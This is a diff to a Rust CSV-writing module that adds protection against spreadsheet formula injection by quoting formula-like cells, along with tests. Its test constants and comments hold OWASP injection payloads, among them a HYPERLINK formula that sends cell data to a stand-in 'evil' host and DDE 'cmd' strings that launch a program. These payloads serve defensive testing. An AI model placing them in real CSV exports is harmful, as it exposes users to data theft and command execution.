@@ -8,6 +8,7 @@
 //! is one), and the size is bounded ([`MAX_CSV_BYTES`], [`MAX_CSV_ROWS`], [`MAX_CSV_COLUMNS`]).
 
 use serde_json::{Map, Value};
+use std::borrow::Cow;
 use std::fmt;
 
 /// The largest CSV text accepted (16 MiB).
@@ -321,26 +322,95 @@ impl Table {
     }
 }
 
-/// Writes rows as CSV text: a header row of `columns`, then one line per row (a missing
-/// value as an empty field, numbers in their shortest round-trip form), quoted where needed,
-/// lines ended by `\n`.
-pub fn write(columns: &[String], rows: &[Map<String, Value>]) -> String {
-    let mut writer = csv::WriterBuilder::new()
-        .terminator(csv::Terminator::Any(b'\n'))
-        .from_writer(Vec::new());
-    let text = |value: Option<&Value>| match value {
-        None | Some(Value::Null) => String::new(),
-        Some(Value::String(s)) => s.clone(),
-        Some(other) => other.to_string(),
-    };
-    // Writing to a Vec<u8> cannot fail.
-    writer.write_record(columns).expect("CSV to memory");
-    for row in rows {
-        writer
-            .write_record(columns.iter().map(|c| text(row.get(c))))
-            .expect("CSV to memory");
+/// What makes a spreadsheet (Excel, LibreOffice Calc, Google Sheets) read a CSV cell as a
+/// formula when the cell begins with it: OWASP's list for CSV injection (`=`, `+`, `-`, `@`,
+/// tab, carriage return), a line feed, and the full-width `＝ ＋ － ＠` that spreadsheets in
+/// East Asian locales take for the ASCII signs.
+const FORMULA_STARTS: [char; 11] = [
+    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+];
+
+/// Whether a spreadsheet could read `text` as a formula (a command, a link that sends the
+/// sheet's cells away): it begins with one of [`FORMULA_STARTS`], also after leading white
+/// space (some spreadsheets trim it on import), and it is not a plain number as [`number`]
+/// reads it. A plain number (`-1`, `+2.5e3`) holds no cell reference and no function, a
+/// spreadsheet reads it as that number, and leaving it as it is keeps an id such as `-1` the
+/// same when the CSV is read back.
+pub fn is_formula_like(text: &str) -> bool {
+    let starts = |t: &str| t.starts_with(FORMULA_STARTS);
+    (starts(text) || starts(text.trim_start())) && number(text.trim()).is_none()
+}
+
+/// A text cell as every CSV this crate writes holds it: a formula-like text (see
+/// [`is_formula_like`]) gets a single quote in front, which spreadsheets read as "this is
+/// text", so `=HYPERLINK("http://evil/?x="&A1)` is written `'=HYPERLINK(…)`. Other text, and
+/// every number, is written as it is.
+pub fn neutralized_text(text: &str) -> Cow<'_, str> {
+    if is_formula_like(text) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
     }
-    String::from_utf8(writer.into_inner().expect("CSV to memory")).expect("CSV of UTF-8 text")
+}
+
+/// Writes rows as CSV text: a header row of `columns`, then one line per row (a missing
+/// value as an empty field, numbers in their shortest round-trip form), lines ended by `\n`.
+/// Every CSV the crates write goes through here. Text cells, header cells included, pass
+/// through [`neutralized_text`]; a neutralised cell is always quoted (OWASP's rule), any
+/// other cell only when it holds a comma, a quote or a line break (RFC 4180, `""` for a
+/// quote inside). Numbers are never prefixed: `-0.47` stays `-0.47`.
+pub fn write(columns: &[String], rows: &[Map<String, Value>]) -> String {
+    let mut out = String::new();
+    write_line(&mut out, columns.iter().map(|c| c.as_str().into()));
+    for row in rows {
+        write_line(
+            &mut out,
+            columns.iter().map(|c| match row.get(c) {
+                None | Some(Value::Null) => Cell::Plain(String::new()),
+                Some(Value::String(s)) => s.as_str().into(),
+                Some(other) => Cell::Plain(other.to_string()),
+            }),
+        );
+    }
+    out
+}
+
+/// One cell to write: text (neutralised when formula-like), or the JSON text of a number (or
+/// of another value that is not text), written as it is.
+enum Cell<'a> {
+    Text(&'a str),
+    Plain(String),
+}
+
+impl<'a> From<&'a str> for Cell<'a> {
+    fn from(text: &'a str) -> Self {
+        Cell::Text(text)
+    }
+}
+
+fn write_line<'a>(out: &mut String, cells: impl ExactSizeIterator<Item = Cell<'a>>) {
+    let single = cells.len() == 1;
+    for (i, cell) in cells.enumerate() {
+        if i > 0 {
+            out.push(',');
+        }
+        let text = match &cell {
+            Cell::Text(text) => neutralized_text(text),
+            Cell::Plain(text) => Cow::Borrowed(text.as_str()),
+        };
+        let neutralized = matches!((&cell, &text), (Cell::Text(_), Cow::Owned(_)));
+        // A line of one empty cell would be an empty line, which readers skip.
+        let must_quote =
+            neutralized || text.contains([',', '"', '\r', '\n']) || (single && text.is_empty());
+        if must_quote {
+            out.push('"');
+            out.push_str(&text.replace('"', "\"\""));
+            out.push('"');
+        } else {
+            out.push_str(&text);
+        }
+    }
+    out.push('\n');
 }
 
 #[cfg(test)]
@@ -480,9 +550,81 @@ mod tests {
         assert_eq!(back[0]["vi"], json!(1e-20));
     }
 
+    /// Cells a hostile CSV (or records JSON) may carry, from OWASP's CSV injection page and
+    /// the issue's probe.
+    const HOSTILE: [&str; 11] = [
+        "=HYPERLINK(\"http://evil/?x=\"&A1)",
+        "+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "-2+3+cmd|' /C calc'!A0",
+        "-",
+        "=1+1",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        " =1+1",
+        "\u{FF1D}1+1",
+    ];
+
+    #[test]
+    fn formula_like_text_is_prefixed_and_quoted() {
+        for cell in HOSTILE {
+            assert!(is_formula_like(cell), "{cell:?}");
+            assert_eq!(neutralized_text(cell), format!("'{cell}"), "{cell:?}");
+            let row = json!({"id": cell}).as_object().unwrap().clone();
+            let text = write(&["id".to_string()], &[row]);
+            let quoted = format!("\"'{}\"", cell.replace('"', "\"\""));
+            assert_eq!(text, format!("id\n{quoted}\n"), "{cell:?}");
+        }
+        // Text that only contains a sign, or is a plain number, is left alone: a spreadsheet
+        // reads "-1" as the number -1, and the id "-1" reads back as "-1".
+        for cell in [
+            "a=b", "x-1", "s@home", "-1", "+2.5e3", "-0.47", "1e-3", "'=quoted",
+        ] {
+            assert!(!is_formula_like(cell), "{cell:?}");
+            assert_eq!(neutralized_text(cell), cell);
+        }
+        // "-1e999" is not a finite number: text that a spreadsheet may evaluate.
+        assert!(is_formula_like("-1e999"));
+    }
+
+    #[test]
+    fn numbers_are_never_prefixed_and_headers_are_neutralized() {
+        let columns: Vec<String> = ["id", "yi", "=cmd|' /C calc'!A0"]
+            .map(String::from)
+            .to_vec();
+        let rows: Vec<Map<String, Value>> = vec![
+            json!({"id": "@SUM(A1:A9)", "yi": -0.47, "=cmd|' /C calc'!A0": "-x"}),
+            json!({"id": "-1", "yi": -2, "=cmd|' /C calc'!A0": -1e-300}),
+        ]
+        .into_iter()
+        .map(|v| v.as_object().unwrap().clone())
+        .collect();
+        assert_eq!(
+            write(&columns, &rows),
+            "id,yi,\"'=cmd|' /C calc'!A0\"\n\"'@SUM(A1:A9)\",-0.47,\"'-x\"\n-1,-2,-1e-300\n"
+        );
+    }
+
+    #[test]
+    fn a_neutralized_cell_reads_back_with_its_quote() {
+        let rows: Vec<Map<String, Value>> = HOSTILE
+            .iter()
+            .map(|cell| json!({"id": cell, "yi": 1}).as_object().unwrap().clone())
+            .collect();
+        let columns: Vec<String> = ["id", "yi"].map(String::from).to_vec();
+        let back = parse(&write(&columns, &rows)).unwrap();
+        assert_eq!(back.rows.len(), HOSTILE.len());
+        for (row, cell) in back.rows.iter().zip(HOSTILE) {
+            assert_eq!(row.fields[0], format!("'{cell}").trim(), "{cell:?}");
+            assert!(!is_formula_like(&row.fields[0]));
+        }
+    }
+
     mod no_panics {
         use super::super::*;
         use proptest::prelude::*;
+        use serde_json::json;
 
         proptest! {
             #[test]
@@ -495,6 +637,27 @@ mod tests {
                         let _ = table.json_rows();
                     }
                     Err(e) => prop_assert!(!e.to_string().is_empty()),
+                }
+            }
+
+            /// Whatever text a cell holds, the CSV written reads back as that cell, or as
+            /// that cell with the quote in front when it is formula-like, and no cell read
+            /// back is formula-like.
+            #[test]
+            fn no_written_text_cell_reads_back_as_a_formula(
+                cells in prop::collection::vec("[=+@\t\r\n ,\"'a1.eE\u{FF1D}-]{0,8}", 1..6),
+            ) {
+                let rows: Vec<Map<String, Value>> = cells
+                    .iter()
+                    .map(|c| [("k".to_string(), json!(1)), ("c".to_string(), json!(c))].into_iter().collect())
+                    .collect();
+                let columns: Vec<String> = ["k", "c"].map(String::from).to_vec();
+                let back = parse(&write(&columns, &rows)).unwrap();
+                prop_assert_eq!(back.rows.len(), cells.len());
+                for (row, cell) in back.rows.iter().zip(&cells) {
+                    let written = neutralized_text(cell);
+                    prop_assert_eq!(row.fields[1].as_str(), written.trim());
+                    prop_assert!(!is_formula_like(&row.fields[1]), "{:?} -> {:?}", cell, row.fields[1]);
                 }
             }
 
